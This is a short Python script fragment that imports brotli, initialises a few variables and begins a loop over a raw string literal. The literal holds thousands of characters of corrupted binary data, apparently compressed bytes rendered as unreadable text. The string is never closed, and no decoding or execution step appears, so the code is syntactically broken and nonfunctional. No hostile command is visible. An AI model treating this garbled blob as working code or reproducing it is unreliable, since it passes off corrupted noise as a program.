import brotli
n=a=0;b=1
for c in r''',Q-!t}@\mCVg8O"S_ڍAYܢr3`rq@h?0B)e&ݸDeQf(47Tҏokdv)ϲʴ2۸kH׮Y>}YܘwƝwUx2òFajmʈkxSf2Ww%TXc	ɋ94:nGkӳTT(e)Nf}ĎNS*UEacgԿ[,Vn^h)dPq{/wi6K5'*evQ$ רRríȎPpmYHf<vãq)#L}G7R81dY|+Nں@ ӹ/)ջ\=Ų]-A4:nckN˻Q\CZrT	9ǲXk,-ش՘`3K
q Mp# P5lwLo[T(&V VYRtlaq'B8rx߷9i@9dW"Ǣݲocưó.ͳ' C8|սU|Gx0&җ=7r]KxvMQ]	ENi0h۲(nZI~Zd̆F?ZLriũV$XPy\)'bHK-?l֘5$L*?-ڟΝ>boz߶nDeݽi{;V
r)@5H|g/Pȏɩ$ŏbc_k:x;%BNx[/L<L q%(|p9pMϤF$ɋg
ڃU`q6JmnO}{Wv)^*Z*mĮņ4tۮR+Xˠ!\5@\Q_=Q`ydgݪ]nws/t@Ʃf* 7%x
ģˑ<7(-"~˕z#5_%~Bsa{FWZd.z	MJ2!x֩>ʹFCb?6rBu\/lFbPwX.ziͩ
uҞ!t|Fhδ#Xh٫6Ls|Hav6:_ߚD$RgO}d"#2-RicL$<L-Ȁ͇Uͷk)΋=W޶eoCHK-؆5T;(D]{}4.IU mfQDa;oM9\fXkj#\K|AېhH-c3v[^`ԔW(:MiS'*œRXAOA]_-xAƊs<A(ȏC8]Kwʲig
wɺcOZa`ˀ*]fK/s[-]")UW`p2)1(-<:sKN"_m:&D;;ȹb*T7mntC¹WMV/lyaȽAH#mm
t Ԩ3w(`E͹*PEj[4.PWzI}
QȆE1Mx&^-8fL)ߤ	I{Ԩt`W9k|֕sjPO22qh/HD380%0>ܪ7(ɗ$6)[vOMQ|V&,{I3An^X~LOlJP^ԥYe˿ښn3|k5JB
ǯyV'q\*{OY>ߒY|UV\Ɗ{Mq25گRyk4:[DB/Q8!yVrۺJ1pX3Q6F'Q&s^yR̘ů12ITL;)Rrv%ȭZgK7DFb&ܐȓ+٬B<a	@ȾO(ٔ>!:]apz_UݘL$dDxh ŷRNjw^xVÌo1ӱ2S@w:{voImCS	ރ),)r[1,y110kӍIv܈*߆-)#5a}ɰm$S-ZuK͔HǮ11e
L8q7kjHb;js	`Ϣ 9|:I]AR:#l0E+J(ZJ'Si!q -]YkTeZGOݨMKIƕ>.;*U^P47f<;EQha\5`7"Rӎ/RS'$̵G)Շ7o<chcu+IɌ(ՄC_epW*mkL|;ScxM˓z&3ʹl>Tр6PrisˑfXچ?́QOLG܍ď&C\D8!I3F+˟7Z/}=8REppC70=jzRT̙ gOns8SqϏK%ٕZfDq9&HBfڢn2މ|'{1WF4UYFذȄK_u{7<lǫO"p-tP|uhJ<1teEƑs}7nYVCܢÒbgxYf[wV{]֞ȢΘ/>ƹ>/_ʦƳl=<Đ3v0[L?%;:tLcp<mm.Q`Tߙ5|23:ص2Y l݃7i19dHfgj,.zV6Rjnð·Q֢;|ܫ߂OPգ٥Ly%P7Vt3UǄK(_5~d@9k9ƺBׄ^dga؃{7pѺUWH:r}},ƾS+Rw(_٩̠VO$_"fx+C[Ihby4ŹpX3|ȚݑlVow{]uSWϻfͥT*.TΌU_bdsBFi?6Cn6DB-V}M(#/H˾)ѵ&<3ŹĕۛȜl,q;y+ǚ%(g%Rz}S֍O.Mo%ub5JH³ Ayaxun<-p$՝}"wl.mt:+?>l(CvRɴUT|6Gudv<5o~̠g[ȷW??sϖ9#7BȜwhqt7.	Fě|.޶bLJ+vƨr(]0:
--h+[%x۱6Fy-h΂D<wl:ObR%pcߟO=ҥR[0Bx9/{U6K6gLe]џEGťGBLIɜ(xQs[	B[L2LNMk<
I9՘π6\,+]gl||;b͡8I>k]Õs?@P$Tq<S]KyȞ?g/TbS&y(v&/{Zqb;rԢMUh<eOqW٠3|^ǝ];/3׽h	uٿ(pG>~J"[2|reClqf_q9a~*@Rd̒[6Μ]
#z˯f
ıZE+psv:Ѝ}"Q޹͊t?DG]&Ңlv(7{#WC(j2WiQ	Wg=PA̸zjur*FgcW1ӀMۉߪF44#`C618j]=;RX?v{Ej|IgxΤSwBޤJ}$U?gJ*r|O2+tIùō
N3@}ˀ_үk^(gghފT~zrJh ~4%K	/߶0IX4_}w׉lDΌE΁%Pl?Xً7qmGzQ.2\2ͯߨɣ^A?XH)0Гs}|<Z3+FDH=r̡>Zʷti"ZQ?Tnqو'-'׀ҏ\$XEF5eψƉjEΦzISu:[Vxxik,8lHX}#'	w~ǷׯT<ݑk>c%DXy|?Ȅ:^HFlڍJk*x?Ј+ѓ2?p5g$qTMD;ef#!c!G5ɎI170zeAL!G9JWT:0_},ZKڙq!	ty)h܃%(ס*hIь%-k~#3Gn28+PĝޱuWhuĕ!.S$ΰکn>]7WCe=$=+fkL`xOՍڡҟ%B|uݔg2$sWM}	OѨM3owr
B>[)HGS'TiH.	ޔ
̀+!V&2JIta!ζ|ˊ٘<k6P-jSR5WͶ@!|X<S^UI/<n-6CZ+N7Z?kt6ߪ]jL:5S\)]Z32Զ<O]tԥ'9v4GhS7oAy6k|s7GM%ߗާxHA)<]\Si$t6b۟=1c9!J-/k+՞ݵ%AXLՒ]R5 	ҚptW&kt#0<+oW̓/s?Ky(+AJ-0
4׻9צВQNq{q&e+PZJ;e9!4rc]Ytv20/GU6aPؕI=NN՜-%ƥ?EC/q ,7H	&fRc'LFUSrUs;WEYHѸ(4ko	;;¿a
Ń+&#!3]1bM u$Na/eTȄXʧpt72
T}/z4P#4Kfً7%-Ogao4YCBYA"|A\_	vءjĊvq5\4 [{Pd@ɋD-)K)'}Ly|0/Y-\oY3im*мJ҅U=g6$j,0MѼ?ǔSB^:TyQFBjOzCY}?G<]XZŋھ_X2Hh9z(ۭ[ԮYw	"ur=\#~\Uo
.ߴ؝$3eV%+6ִ<^Oۃǒ^L?B?ğY$2Rϧ|2)$43kڭ5`	0w$|u.ޚ2h3W+/ېC-3]x\*eL(W`3GAYIW-3&4]p_I}vt4GRI}<ܳ70t֖7!6+o8S;ݰm<]>^xMIsͲ̄:od'C#Y.t9rOίqTrB{Hz
@<Jx|QclbŶ۴I_[Ik87HX#Q<U/28d*KB=w#χUJC1[gcXͫ0ͿuˀdXoޅG0GıGCǇo-- U{ԦyKfI۟Zf5&TZo!fđpkJ7/<{l+>-0Y;jmy4ΑقHn3--/RddB=kܮP)!e\v9+5J']X)X-$ʩlU.baņKAД}	7**عUތl{nozŉwEڗ[Y5]O{#PY?mv8:r5f#ّph7B<F)¶uZU3Y2ih>8}uKܓ>h>`h	YM~joyW!ݥ}@yt
@|hB,lEIbd H̀7!v~=7>Uo=MX\ڰخ	ҹ~e,ԕ/֧QVחDeGDxEhGқ@[Y;
*ܐv!//RFVn\a[/Ԍ<f~KSЬ%OWF_HDi<$5|G7_T0xUP>(bw_a~Q{
=-ݒˉ/i®Q[E[ȜYn9g%$ߕ˕	@1<E\I=25k>;glb^^o\a	ZP-:zg֩^x-]})#ĸ7Y411XJ,:SdA[m#.X3O<s8-#EɈaɈuldŀ9F?J)7ݛ)X؅JƩ5R$ڭ͓-uOVڂy)jm`}^LN0.D=ϘJjm\ƩUA7%YwגkIqю&eHю.9ל/?`עØƕ;TLCQŽ߹5Z2#Fv|;+^Q/^Pz=n5^}ІCEA@w.քVT|+#F[4Ѭw"͍<z
5laό#;C?RuM=Y;M}m̛dJ2iДIuK8v~dgۀIRr^ۍ$׍r11˛He$,b#:~P$eפq	0s%$n]AfU0l9cȯK*EwNVd{5.ه͌*yKhi*Y©I4i}V"Gu)Xjgxϔ0Ws5/#Z>/n@"һa#M<1E@\-$P>H1{gX+"^ŐKؑ¢=TTHXOu}ǢܦJ6/?{n	owѤYŎ#\p#y2v7	LtX4N~ǃwQߏ~u=dz98f#I+mIʯa 8 ͱ
Fluy
jFE|
$[ޏSH{IW5HMLR.{Tb΃ ^O~0an`N7.Fק=#A,A&ތK0O.:%z#;5&׭k]fDAE~&OzSDAaϜ\Ptd[@u?``܂nGdvHȕlJS[\1	2Y6ہ*KepϾ",5	Vy!KV2ς$+m#a(שĒz`S,pvJNGons4߸ȯ2d U #Әׯ2mnX7h"<cˀK56~NV'\!۟5-D!>q(<55;3lO$,6Xʄ3|iYdWߔ@\L8ڶ|u?hr҄\\D<hj7Rl4=̮oFHNJanI\#lԈN(2bKaBPbVɉ*u}A]y	oKN2hr3R_o>)њ\*? wQ5ˆr3 u7mmuNCnYƐΖC-ފ<LbuCۃ;oŵ_yeʡ¢24	/4P/ʙQ+}Ȣ|/&/~=FP\xHV͎"ATBS[p8hR/S:1[UNg$a&B~xsF 2;GLmڙ8XcrlVؗbgx5az;;LY
KфG&BW0Sx"9!`=v2+&jrƻy@yy{EzA=*O;CY͙T˭">=47+3~˖)ֆ%D_*|.dbo8*,SÊdK uVmi.~L9q$=ETkBlbkݼPIη9ljƴ:Lx1OJe_qѩ`GqBULitqX+ܙV7̓n%'`|!T<{sZQxΗre-M[{J.m75H66OXէ¢k<!	6"c1pr1l'>z{pv?qIgRs_6@>NWcM$wz5Ǆ!ȴ9XDq0*޾ߔ-NFg
i3]gȓ^!CFCohʏVZE"fs ЕJy"ـ%0ߦ}i-1Ao nzC/$!y-v>Ԭol!#<u]{n-İ6=Fo4%2$%lO:y XPEKӹ}'g*5ؒn 9[+Zz߼0>:1N9cMD9ۈɼ0}3/fEK-E}~g1q8qtML\gAs>T^O\վ?G+ZvܝmjC8XWd!{1mÕD_RX4HY}8jD(;@kWǛ۬yk4<O`IحGOl
.LG8Z`o(=Jͤ9]˩όaű	[Tyޓx̓+Rm@|yE\gA@Ju_H	ϓt">m|93f%$xؿbCmR.*͗ڳ_.w{{6܅FvF)ЃiA^F7
NmZp9{c+W͘p!ćpN31i9y&
g1moܶ8eK'~c'Es|?2&XN9u^|D1رO853[bSs׋ӏva	xXF<ܜΕAҌNd2JZ ?},Yϸ?HTlG!1E_[ȯŹnXzuϑN*MXk107W~܆-ˤe<la-_
1*)j#-e7N@|՜ڰ mߠPePp:	(֊o(	P)v'z\^=)δ.Rz5-fI=?+,QsK!$Jj"QPܺӃ*@C|ư*~II~I_yAǟ/6o0YMjjwD_ZYnUnKFxj\YҮE#n1ިܿe׀z
i߫M(n̘ac ./I޽R݁;ksGMƩsuId5}?ILkrm~v^.LeuƷvԗm&5	W|Dg{TUʸt۬.G?mA=0|eFẗ́ʩ!o_GI[r5@pM@mTŤneW0`ʦWؤ͖LW(0bRzh7L+Z+ƾđN5-9VB1&fŢLȷԫP 	Kbek!ۤe!/w\¬Qp+_ܦD7f2Ct_dBPGM8[92k1oPcP@ܨGV^߅#dqؘzۍ׆esF:ŕԥ:c+m_{YPkJέ<\s[ܫ\f?e@z,fSsG3I*dm&"Tw?_ȢoK|c3ߍL1"%Op,g)rϏpRO,SϿ$[.W#^Zyt/.k˸#SČzM:Y1_Z;^j5A%J)39у4z}s9n,FW4ޚޕ!/q܈%\kG*^gٴ|#+4
~^cS2SC4H=OҌry{9K;tiJF%5X23pnޅ
"d&lEod<EfD|U{0|	Jċ8JԾ#F)oRǜW\mʰ`Kwupm}2 jۤVO?׳awCǶɥTE!e6Ҧk>4q΀AQOМ·:@
PGD]pv#Ug[oƤ}ʗۯlR/Plz5ZΥhKda<?U hsdS|p2qssH	ëvK:(wA7>åˈ!NԪz*mmK}ԗSkMI@gԅu.,s)N۷Я	̷&'Þ5}Z@^
՞pCHRU9{_~[Z'Lc@]jC0ڛLM5*b&&׭m0rVE@B~aaY	RZRٳbFC1.4a%_F)&ޒ&ǃ-vSZпp
\Jc.ήĲKHiB(4c'ml~[cb;p[=dVq÷ەNjv	?@hO{gV7Jznv5Γ[#G2c=<Oǟ=Dڥ{T|8ZD%ޱFxgcrZ3|C/(̢7D&~pי*QGv>p1}! ~i@gQnSdnR-˵`Tw1J̥ɏG	oh"65(hikCwXTۄW{IpP]d͈/G$,Hu^|8 I-.?fQn3l-0*faq'v6t}]eqJfy[~ˠq/ ^c޳GOj	(]]ɰJ]-"W,KAhevlº$MVw9٭՚%Q}WKWtlwv	u:2=^zA^c
BPQH&N<4e4WıFn5V˃DcP#sϲsNT	'8/7O~JnĊ%fL=T}VݱM D_J{֭ʝHgJ7G6~0'm5]J)ۻ\yV~ٕ 
Μ:1Ƚ}ѷlR1vCӿG=oev%w(f6P՞. ĘsYGSԌx(xl
D]3y&+~r=,Zqrt~~_qެ7SN!,;^Q)TM=hR*'#c90&;*DhNgmT,p:'ݦL7>$>_F>ъ؞% ƆJ"Ӧ/2KʸWfhӋϤpoa=c:>%~f_!c+IGZgϚn~.+{%'vAҝG4#5ju$Cbv֙6E)ɥh"m(8֦5q֬Z<.nZaʴt>nCONԣnGH
I<PP9َ,ϣ~6kĽY[yTV	\e:?d_>8`_:_e[ɼ?}U=c#@ԥgL#8""z5cRmP]E7X,¢6GasNQdURK\2ONǫ.#S3@݈MeB^;u2Eeλ8߅5XϷٶ̗H{ֽՖ F'^cǃ%˯Ez{n;4#?_TK?A2Re:Ha:QKǑyTjacO@0-@*іTۙP@k]nyB	hy 0Yz)\BmQ[gK^HԭS\Yfpt?ҿ2@׀"Yk-'RHƆ`Br߸ߝ<vZofU¯@~H6.#n)`^2|p3+%d;B4VXB7ZƚTl\yQ}iSQZ<[hbЇ,:,&ۧ.ܛXLxDQ23TkRX,,)sp)fսn7$Qt!`3ld;;.@YT.4-ε
0bβNPt3|7/́ѢOmHRNXлƪ8Ŧ7ɬUݜ)3wNblj
^^ubLS#U@*2RW)P/s6ʼmk.LZΰ+O/0D~8*wh?J|dVJ1T߲;y.z}q6QWyr~+G	3g W+-h+< -Kj+Jb^\}L-nE%Մ0<;g)<g\݋<A}UH6BLھ:B'~_p!X k7͒pr̛Epi)}glմ݄!wez	4wQ"z`T5Zv2gB)~=ۼD-H9бU1zBl45d\[ͻʘaV֚`<y5{M۷KYɛA%i1
˅H%p}n5zDZSO){׬`Od޷FR&ĳX@c]z ƼyrP՜7+vL5t8MBLDl.uT"0Pp%;,<\F4pR|ucνԏ
;vBMlAw7Pi[OG?Ӳkb|߸i4v߫r٭0MMZ̀-?%݂x?0Vi^=Zj)}ǡd!^-"&RIW"r&J߽	-@(_ή>8u_[OV"X%E'<
ѽ=PyxgRcuvԋGyOM&dAnq*ny=/Za\.?->Obaƃ10J,G0NbGY:ȨB˲|ؼ7X~ңew2bvRΠ'7ƙ$kg-Bl!ΨKP#ժr59:R%WUX=pg"Ďλ7"æx]C;Hɢ#TT~:M+icO4	1٥Vǣ'Dx׀Mc;qbFwcfcVr'/jgsB`l#k[߯~w+.ػ1r27S"s0m^uux
"NY+Ŀ8	ܡ2ܨH5[ߧ\Xf/tfO]Ddg[*r5vS8r8ka4<J6ukǏz	!N&Od$(/0McsiVn؉@`aGLּC6cHX{sѣ{KǾJ;f/vQ_ru(bOP0t8|29%a2a@׬қϖy 8L'Eα QUƾه4ȅ>@97(ܧY"#VSlBL3wmv:-bѠk
l>k|g_9hQuy~(*Z]m[#\t]:w1}T iPUW۹@!`
ҧAˏqfuoj=3jÊ[8a)_Ұ'
7ݏk1o+w#VBGD`ˬp4'r0?:2v.9ݎoR Kݘ!R٨*	Ù9-D/cWCi3P=tO!Kl^n9znXhDvI49)]*RCؐjn#X84{4h	qsgp
Ճp'U\#+e,Ն{$Jח ̉&g`;"ִ^)Bfo7zpXSKP5%1)ҟ\߾ǲqpo-Bװ:"(DH)0Wۆ9Ub@՘Wu@EZX$H&۸QMR_#egtkTĒhE\WK	gm+
[c\҇AL;+'nloj؉wqWg'.4l׶ÀkuRʈY4gۜ:(eUϹIޥ:L0CrLVIĄ=
1N.QM?Vhd-7/؄N}{3Y/gfkqL1vѰRc>	q;'?A!ƪ30,ٲf`jdqFixJI&܇/h]ɻyÀqydXH%W0ߚP̫GY++F^7GNQ~-g[mz1SNQ͞.1i;v#kzatJ]`'lU/9TFh{tuS7`\Ă@0'«дfcRBvڼwǎ˄
iC/AZ&bb]-8Vb|k76gz fK"v"G	h)aݻ`0x
V}Fݔ~;8K6:mmʈdIWkD73zCPSHL]'U=ܢ`|^/E|č/na0;BoH0H#tEE{V[:sbχIeՈ]7P/V-\iW.պ/k;9FkN˪b|ق~VyQfۚޖs;{v6{%Q*I]05KW^g,ԗ9-ơ%FL\	fQe"03p<F*\M!Y@ ]cϿ8D,`87߻ɼ??g (eO3SğM;;N|8X]xXm7*ϭO4Ωթh~PҞSdŝ+0>/Zl"*G[Vǌv)6dIlȧ_Sz'2v)pȭI՛^Lige\ؗ2bK Mن;kFjOe52n6%ڜ/)w`И>jJהAg8h]Շfk(72'	ʔʆ9g̶6cnq7w_/̵1$`́4֡
xP1|5oayjS%Zr!>TqB
6"eZ<7ypGA|]NGoV/VA'~Caub_z^J6eizZDbG9zN$X5Ǻ-+Ǆ2,i:R^-V*rP2%3co$Uّ>*,٧é$lhK<;{_ֳVƜp1aW}`T!zd-
Eڎ		̘cJ\nz^/ιX{6LW<L  U9MtNiTUī&U٬ArdoOH/\wȭk'ח<ܘ3H[_\6XUߑ4v6 88ʿKlhp4̗j21MD yg(yBUk_{#CPUG̞~F*3˶]?b4_ؽ_GY>ceBكH ;PAfJ8&aרqUpj]D3Y|GS NeE1Knݶk*!&0d>%{]٠ Bԩ+|ēm2)(y0S'u^rHB֪NV0IaBF317MC[lHHs˖Wee(̿]{|S=h(pi)Kq ;eCt˒I_dSYNbřpk}Us4/ێ=~g\RYkXl.ɫj*ա<tFSF}ZYd0YrOOtW=D:k׀ČUyQVʦra:M"ϵ+NVAez
zkyrGQ"a&ri2tn[mpq0LekVgvYR.&x߭bKR߳9Gr'#mN);MQ3tY8n5g"n		?ضBRQJ" Ρ-=[˜B]Ues+|hDep]p݇f`#7ɺC1a{'Ϧ\w]lǉŃOۓQ׵M
f	̄GY?ƥLcI(rSHуG/mpg]sdq.N$ȥY|DhT؄bmk.x)*68Z=vg	_-~~D
KR]WMvmY=ש8`(q(TؑwΩGҗF^1	٥O%$%R1E]WHTS`wyx&3+݌C+3;eMe(6O"cT6ڂ	&v ="$\N22t5ON%p۸l'V+bk_"`:#-Ćlr0rAttiē oBqYy{j&Kb/e@ν.FDrs1\($ā$N&ÎNZg,Ъ
|\
OZٶdVtqVͳ7bu¥I3C^ǃi4$3ՓSU=iΕ==r=~ +-+4^;vJ7Kޜ1U1ȖŌ!#DI?bpJ{0oHٛ+*z]ŧC]$f}I&[Ԇ\.Mą~&tMN/=FB%ZU[\4'DqE˰v86(WΎTʖD~ӎRH`q/D%eNKIwvux4{%_eN+qDx5I(̽S*1Smffu\)P;k%eĈwtmNLn~`|6!yuLkdUY(Uɶ
0^jBZ"PCuȹ1'3U	MzQK$8ʧt3jjFT{u/V΁	ȪY: &PBzhxK\ק9:JΜLϘpI}DȺ?Ta?LS!{3zݨq}*
Nƈ_څdkzrOXXaё9iRtN$ct+C*D\"?Մ\3hϯ!MREjv%N/AnyP:fϦ@v,Ek?w`C˸<P]H}gdgmP~~ac;U\V|M̘5pAnr|)ja4ߢs&C:L=4ľ|#¹iEl	8$ƈڌM2m'i(<_wE:UDvUڲl,qܰWU8RPߝ<ƹYӯx%^|ww'(2=Hʻ/^?=K
@<wWX~ͤW_9>sرop>l7c:O~	MMFUGvq)ZWW̒jbDe]2fF'SW 9sH[EuP	'pNiiYzlzж}Mv.#S!k3ϑUd=e^ю!**$_£
4ߗҠ+(cf9Vի,Tk4=hwY283UɎ~ޏO).Ҥ4J۪ɪ\3Z6=lFޱ>~0YYC~0MB#ߨP6ASkLzr^}m`~Z[PE
7S^Q*>NκΣ}ЗKg
DXNΓb7/a`ց9L74`Έ-ڙ)#sѲPc%efaU(3^\77;ʞh4x)1
)aW:<]_wbuW[I.< D\A_STrMrcrNVZîתhd
2P@؄|2ВR?pL+8:hwY]m`4gyy04|Mns-pԼhdpdU(#fAFM}K*o_Țhu[p>ۅ7;ܙ۷XqPQߘ(H\WO6fDb E)&,9aHJ:*t	S<qĬ'e+BƮ`p1~'Ys/ՅC<"Jlh/ڠ:܇!}Z,%щμRJY@CВc9.*q:)g,.$@`c4#:5+ѳlG%j]RѤ	wXs]8oٗ,͌dCI7GkvNCW'o{e	 _B'@uWe4ylXV|04%=wX]A^c<nnu!"5ٝsڨT~bWoPW;NLBf<I!|ލF#_ŢwMP`,ΨL
#m3]4¼9}tc\D~&*\ԡJSN0@b*MonJҙ3x
*jdbCS'Sv$kU f=Wчx+32u6oX8aՐ}E(CM-4ɝ8;
ʏ94ۥ*aƒkW2Rn4,<33_S0Ip5s@|(jp{"1v(Zۨ#/Vb4<-`REհ]׶P&ϭ"T:̒cIUcwo DҎdLwd0DCZ|̏uqKP
Bdچ̉al
w^EdQActMV]6яvǕ=|xuI//LDn*IIc5;6 f/DDA$,>N*qa7қ`n<Ȍ؊-lf$iU'Oy+cwЄ&b YyR,mGz)!jteuJ_ЄOGm
4,ygIO=HBigwitYZmǲ"%ؖ5 'Plm~e'T)Pd#@;Wx>6PW|0Hak|H[zޕdԸ'ެݡNuׁX(+À-*Voou6U?,wLwZa{U/yRGƗ{q!NTfD82bB"/,^/z7_6wJ۶:]Iػ|cbd8c-Qį[!Q˄r+Z؍$"ǁT]
uQ Tv|C{x5soݹ#MR+r=;FhfַpyRRDLxF{FxNY*ȅ9~ޑC'[4bȼrG[=]8lRU'zS]9Y(ƠMʶl%Mno |:2~rSQ,pʩ/
ms	@,7uƟҥd9̂=ΪOBXa
ы!Tx#_-bn5M/<'.4!ݼ5$\9d xCD F܏͠&:*0vd3^۬	3Dzp&g>29_$rfۗC"fLn5NF^̳|ĵer2ڑՖr#&%9Z' %kJ&Զ/[8ٜ\k
,SKȤ$~xB>K{8:܏EL'}J!/k8Ap+o?sI0ԒёAh{3Ҋ?}WmVs3mzZ5,|yۑbRcxҵk	w,*/J5Ӂ6exUҹ_$Sţ<?&a5_ZGTzeѣ</g](yB&0M DпɿrM
MH-!N>-FLVek̓pFumS#R:ɃhGzfl*!ܥWԜ>cU(ky1&ơԞV[fSYJB8]v=t;sҾ§n"Y$(ի,hPi@tlߴؗʿ˘LŉBbw2k_}$r7^>2@|"͙=E2h1|/Q/:̵WffnK^e=dm8EX_)3'/s!C,"QYT.`>ۦY64u/?̈_ ηǧBq
m!'ۗ .CG\Lqc_
,.iה߁(T F-_DӠتȨg.kGm6ϗ|G]$}v AF-ԌxQ<"8QӳV8d<${iTUBr}:U|cG̑j:+&~T`ΠXսfZõyjIDUοOaK)`Sv`ئ#Tem
2Ӕ,ФLhXz0E%='̙9j3uRvgֈ*AʬdڊHpSP'?Q/1bI22ݐR`Z.8_&-l(ˏi4VI;Cg)ltȸ9ۚ/bֿץ^qyt$]Qɪ]AC/N/!TzjTg{<WU8x7^?_-LRF{9nGG<EV|w 1a$N(.k/b<2wjֻHC!)FqH$	3K}h?OwOQ+լUc}BWMQQBvNR!.,	*sQF#ԶB~6*ݿe+B~̑w=6Ɓzt3e,O ^y:msM1]<1 πCɂ
dCxMСzhwbKڡ:Cƨpz[_$YmO)oB:[{гg1	'Aj0S7gFi`rWjцW\&1(Z&f;ɍF{? A4DYoG|'$|Ak[r\.5chtPXFN#2.-d͓
HƇ]<PРF3sh[ˆ֬~pXcY!!Db_t6ZX7>EEC:->{ޡ_s߲[{rN&iGjM$϶G~
?-IYѣm%vlR^jvȨ}YB'p^*fjȴ9GVk1/"߅'U.~U;K'El8ݒ'xQ#{+y-LA@>1wpԫEޫDGtT6HuvHF"&y٬l#etĄ-69b0:VltؤxD;-;YצcqȞ7!u{"ߓOuh$K8rama+ٛMץ̯{\O %rť3ȅm^My)#m[pv*ն,7~]W2`	P# Dײ3epL&nrFP|i2{Z)Ձ\Ł׬ү`c?dӰZޮܨoyLԏZ@CwAd (@9&Ϸ>Ӡ~lx{GHP/gޗ_5'+״ҹ-TQR޷cfZ8]Ό&5LoQz{r;ɂD"S}Kwy73cޯdW}NR"VxVڴrZаT˔кtY{QEK֗ku#ݟUbIާ"r5fȰ[Lo[#&gkJ@BݬcuЄ6ԘBY"a7\SD5ZG۩KˢQBCh}D;ZtI-P2ο82_1!K/Տe$W˄638y:S
[_O.]ѭkyѴ"%`1GI-2Ti^Wѐpx̜ֆ9FǨ_޿Osgԍ y8o˙1JI?ϼۃkwã˵U+cŲ(˿Ko.ԡ]؅m;Ҙ`\De`}e?|+lUm(*/
yIߩK3)t5FT{7WIcjn4Uǆ7žۏ&|Р?*J5A۩6g!_Y=zvq:inT:=u/;H+aHm#G>\4,Wӿ9Bk8r8] sQq2+o3ϯ; vpPS=g'2/!d,4tv#PDG*8!p}ƶlo*I0\DKZgɗz6G>ϪK׸W>B,XPnʁy׮`!QۯN/ *mQ}ޓgqL_eDhI%B,ha{8[q]Ul?tIյ'
cT,'`!.dq2:H+{D\nCԸmm@0558&x45lFă8t!pڄТf4Y_bi@zR<
DC6s	FW%6~2ë@PxǕJo+JXst'9`̐5߳E8yqz>S{d2Y/>%hfKP!ҵK&;t|$'9)xNvs/[Wܾf>kl%[)R¥W}5mQŘ7ZHaIβU~ӣZ ZqVl(eWVm.c(*o-YPpkx~J6[$n׵@,7J٥{<Jm5z3/p!UT/ۮ<W>z)DfFp`!DrS@!Eډʸ25ߣwW;&?ђ|(*g<r3&=Vf8;̍1(5{nB_<06pƤ#qfAحrm?ޤoTR[hYkTX;8FmAM@НөZ*!ɏQ ڵ[H7*։!C`zqWzznǦ/Ewx|!}l^=SР\IϐwϷ.D?2oBĴAHi Pt1=tlٜ`n 'aTƥVՅz:ūI9-Z:0`Q?̣"B+Yu&*1Wό}z7:];TNSqsp(MJ_Ph"mɌKnש{XT)ƴI-*AIYtSrűݻ*ί`8)oi$݂EÄ`׺ W+,Rw/Pwтc75aCbvrp79zuJ;:vmxuăJ/~>טF;_swc՜VQŻGw<F(ùTK\f3
z9>ud5d'Y9,VŜN73cvX60.$Y`&o8]RwS^\+ǂ`m[6O8o\F'ߊKZ\w{e=y3Ptģ$ߏSYfd- b*]BVźBR8"vmל..oL+2odēQGԁk+]qΠtqȢiSpY	1'.ge!/\IamҎHBKwh6Iw܂kLq%,U]2+c9ѴX/ܐ[лfjݏƔN42n?b=]1O8aަgK,4f^$ө-i-Uef_)ØbWf.`׵%B_]h[eZ/) }TqS:'d2g:<"(9+(ZLxWAR/eƸ Bqs))2H{UŬ2{ù4w.5gߝ0Q܂+ձk4m;] CU|Ж3[Qֈ!w'`s?C"BZk7cǁշqˑzӰxi1@7ΓR?eN07-͒A~˵#J=EZvпIt<!dNl|:cO&huɧ*Hě}qr5I÷)Ub~fҟݭ݂pI$:(,w7Xwa|nMfCRypōMSӉ832޼^Sa*g?#ռűAG
yDۓ>Q9Cʗ>ҼNM7!/_'}a^ڡf\=ڵԨϳ̽դW#z`qPӆˮ?ОqCoRrX|-h
"Ĳ՚~q(DLlȊ|6L.O-5,jxeZ<[{ǃQ$`E9tx$IBd~ƒy_{xW	|pzNc΂_NH\>H~"T̪,ynIiENլͽ)Yr\طw9=MM#hժ^LnZf\Q2ۦ1װz("S$[0EB?ˁU|rԩe3R?cuɕy+JDqU%uXk1~[5~*lKmk
|ݪ̵F^cr!SmWYǓӍޟ&PlrǛ	&SmJH&\A91e?}sNGdqe7ڮ;dF._YȠÃ"Kn)ıb1V@MD,tKu$%׳ɢditæ/.չD2*]ELCzUvi'w_8	EޞĽd޹{PՔS̨ge>Зj-w$KQ
1	G0_T^dQȜ!@+ػ;<'8+nqŒ9[}X9y+vuȽ\wx[e6e56qQ @=lcbX`Bb.lSTeB*.6yy:X}}Nģ,,xp*E-Fe&IƀYY_y;0X5&мgt|ԇesu+ww(UYU9v*Ӎ'
L|Y@Yw4+)9>حI>x;.!uLL՘&:aίCW[J(Tf58رZrob>|.ern$zE:{sm{h:%12]`F}wc~8?w$WOCR˫sJpF*'/)2D#JzIBVUD~v7Gj(0p.?A2ټǜVNp{hd:֚'~͙(~<{snJrkIվ;ЕIۿU>XcC@Nto7LսӾ2\|DtG=xy1ܰHh)kKtC7%|C9(8}ٯC	r-e+vۙ3[$Iғ_5"ց>zv;Q75m8~RVi4;΀sK^%	L~w[JH>mW<1&Yh}iߺtpb7ûwƤM6 J{"zzφ/ەrXʦ<2|)ʐpÌ؜ցoCeDOcfR=59ȊyG_	g"ۭynѣt}ù\sSr`ʑХv߳b_wd'.(ƛqʪ"a>mרE[j,9'djcߛrb%Ny4+d@TD6d{ǒdK8̅<k+/,;
QLeoҼع4Hdyc֣7#;Y4|bz+0iåzI7*YX=J~GMˁs*eV^}f@;ܣzo͏0ne:KPtFd"wxfFXxF٬koC/Yn%xƔb_sG;EF]|{4صNq63V?$Jkl!KԗKQc_r<(I&baHTc25Ņ2B>#hֶUp/Ðu;RZ_G78Jhl_ֹ>*BhFymйԤ55djFݒ\WLaX^۬[H΃!
ۋu,#gfy]GLj$߈w^amXں¡kPCs_C[N&GPƕtc>xYـ=K-uz|(eK 7oH̳]}a$}Z֑s9%Ϊ<WC׌vHv1͉1M2'"Yӈ1>Q6WNh%#Y+δ*wa2ct0BCQuc!a4'ǆ9H}ǳGJTz{1?f3f\9fЫty¥M.pK#>qdˆ8ͻiug\:$ŷΛޮdʥ
^J:[g67$0!\Ώhc	~v/9&AuԽ#U>÷ej`whA,'Qo.tʼqmX*8׼e>~qН^G=t92}=hC~K%ֶK3EǐA˄Ǭbu?!پƥgwd^uAd#';<fx1V9Q
*XWX*^f,ܳ'eş$F/r<PaFj:'gߠS$r9ڟ:rް?8a'?SƨnQrE+
ܸvd35Ժfx		ٰL*ǤhgDUv/'CدR߾i80Ȉʼ$rʯ{WǺvyZwo?Zk)ۑ<HP<޲J\98zȜ[]
